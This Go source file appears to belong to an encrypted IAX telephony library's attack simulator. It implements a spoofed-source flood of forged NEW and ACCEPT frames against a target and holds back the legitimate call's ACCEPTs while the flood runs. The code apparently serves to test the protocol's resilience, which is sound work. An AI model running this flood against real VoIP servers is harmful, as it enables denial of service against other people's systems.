package attacker

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/iaxcrypt/iaxcrypt/crypt"
	"github.com/iaxcrypt/iaxcrypt/iax"
)

// floodPhase is where a flood is.
type floodPhase uint8

const (
	floodArmed       floodPhase = iota // waiting for the legitimate NEW
	floodNews                          // sending NEWs, ACCEPTs to the target held back
	floodWaitAccepts                   // waiting for the legitimate call to be encrypted
	floodAccepts                       // sending ACCEPTs
	floodDone
)

// acceptsAfter is how long after the legitimate ACCEPT the ACCEPT flood
// starts at the latest, if the call's encrypted frames do not flow both
// ways before.
const acceptsAfter = 3 * time.Second

// acceptsAfterSealed is how many encrypted frames each way start the
// ACCEPT flood: the call is then live and encrypted on both sides.
const acceptsAfterSealed = 50

// maxPerTick bounds what one Tick sends, so a late timer does not turn into
// a burst.
const maxPerTick = 2000

// flood sends NEWs and ACCEPTs from spoofed sources (attack g).
type flood struct {
	s          settings
	rng        *rand.Rand
	offer      []byte // one valid offer marker, reused: the target only checks syntax
	phase      floodPhase
	phaseStart time.Time
	sentPhase  int
	start, end time.Time
	held       [][]byte
}

func newFlood(s settings, cfg Config) (*flood, error) {
	id, err := crypt.GenerateIdentity(cfg.Rand)
	if err != nil {
		return nil, fmt.Errorf("attacker: flood identity: %w", err)
	}
	_, offer, err := crypt.NewInitiator(id, 1, nil, []crypt.Cipher{crypt.CipherChaCha20Poly1305, crypt.CipherAES256GCM}, cfg.Rand)
	if err != nil {
		return nil, fmt.Errorf("attacker: flood offer: %w", err)
	}
	seed := cfg.Seed
	if seed == 0 {
		var b [8]byte
		if _, err := cfg.Rand.Read(b[:]); err != nil {
			return nil, fmt.Errorf("attacker: flood seed: %w", err)
		}
		seed = binary.LittleEndian.Uint64(b[:])
	}
	return &flood{s: s, rng: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), offer: offer}, nil
}

func (f *flood) done() bool { return f.phase == floodDone }

func (f *flood) duration() time.Duration {
	if f.start.IsZero() {
		return 0
	}
	if f.end.IsZero() {
		return 0
	}
	return f.end.Sub(f.start)
}

func (f *flood) setPhase(now time.Time, ph floodPhase) {
	f.phase, f.phaseStart, f.sentPhase = ph, now, 0
	if ph == floodNews && f.start.IsZero() {
		f.start = now
	}
	if ph == floodDone {
		f.end = now
	}
}

// handle watches for the legitimate call and holds back the ACCEPTs on
// their way to the target while the NEWs go out: the legitimate call stays
// half-open meanwhile, as it would if the flood were faster than the
// callee.
func (f *flood) handle(now time.Time, a *Attacker, p packet) [][]byte {
	target := f.s.target
	if f.phase == floodArmed && p.kind == kindFull && p.isIAX(iax.IAXNew) && (p.d.Src == target || p.d.Dst == target) {
		f.setPhase(now, floodNews)
	}
	if f.phase == floodNews && p.kind == kindFull && p.isIAX(iax.IAXAccept) && p.d.Dst == target {
		a.c.FloodHeldAccepts++
		f.held = append(f.held, p.pass()...)
		return nil
	}
	return p.pass()
}

// tick sends the flood's packets due by now.
func (f *flood) tick(now time.Time, a *Attacker) [][]byte {
	var out [][]byte
	switch f.phase {
	case floodNews:
		out = f.send(now, a, f.s.FloodNews, f.spoofedNew, &a.c.FloodNews)
		if f.sentPhase >= f.s.FloodNews {
			out = append(out, f.held...)
			f.held = nil
			f.setPhase(now, floodWaitAccepts)
		}
	case floodWaitAccepts:
		c := &a.call
		live := c.sealed[dirFromCaller] >= acceptsAfterSealed && c.sealed[dirFromCallee] >= acceptsAfterSealed
		late := !c.accepted.IsZero() && now.Sub(c.accepted) >= acceptsAfter
		if live || late || f.s.FloodAccepts == 0 {
			f.setPhase(now, floodAccepts)
		}
	case floodAccepts:
		out = f.send(now, a, f.s.FloodAccepts, f.spoofedAccept, &a.c.FloodAccepts)
		if f.sentPhase >= f.s.FloodAccepts {
			f.setPhase(now, floodDone)
		}
	}
	return out
}

// send makes the packets of the current phase due by now at FloodRate.
func (f *flood) send(now time.Time, a *Attacker, total int, next func() (datagram, []byte), n *uint64) [][]byte {
	due := int(now.Sub(f.phaseStart).Seconds()*float64(f.s.FloodRate)) + 1
	due = min(due, total) - f.sentPhase
	due = min(due, maxPerTick)
	var out [][]byte
	for i := 0; i < due; i++ {
		d, payload := next()
		if b := a.build(d, payload); b != nil {
			out = append(out, b...)
			*n++
		}
		f.sentPhase++
	}
	return out
}

// spoofedSource is a random address of the spoof prefix (never its first
// or last) and a random port.
func (f *flood) spoofedSource() netip.AddrPort {
	p := f.s.spoof.Masked()
	base := binary.BigEndian.Uint32(p.Addr().AsSlice())
	hostBits := 32 - p.Bits()
	var host uint32
	if hostBits > 1 {
		span := uint32(1)<<hostBits - 2
		host = 1 + f.rng.Uint32N(span)
	}
	var a [4]byte
	binary.BigEndian.PutUint32(a[:], base|host)
	return netip.AddrPortFrom(netip.AddrFrom4(a), uint16(1024+f.rng.IntN(65536-1024)))
}

func (f *flood) callNumber() uint16 { return uint16(1 + f.rng.IntN(0x7fff)) }

func (f *flood) spoofedNew() (datagram, []byte) {
	frame := ForgeNew(f.callNumber(), f.offer)
	if f.s.FloodSilentNews {
		frame = append(frame, byte(0x01)) // an IE id with no length byte
	}
	return datagram{Src: f.spoofedSource(), Dst: f.s.target}, frame
}

func (f *flood) spoofedAccept() (datagram, []byte) {
	return datagram{Src: f.spoofedSource(), Dst: f.s.target}, ForgeAccept(f.callNumber(), f.callNumber())
}
